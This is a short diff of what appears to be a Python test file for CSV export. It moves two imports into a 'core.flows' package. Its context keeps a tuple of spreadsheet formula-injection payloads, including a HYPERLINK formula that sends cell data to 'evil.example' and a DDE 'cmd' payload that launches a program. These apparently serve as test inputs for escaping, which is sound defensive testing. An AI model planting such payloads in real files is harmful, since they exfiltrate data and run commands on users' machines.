@@ -3,8 +3,8 @@
 import csv
 import io
 
-from core.child_flow_service import CollectionChildFlowService
-from core.orchestrator import MasterFlowOrchestrator
+from core.flows.child_flow_service import CollectionChildFlowService
+from core.flows.orchestrator import MasterFlowOrchestrator
 from tests.dashboard.conftest import HOLES, no_exceptions
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1)")
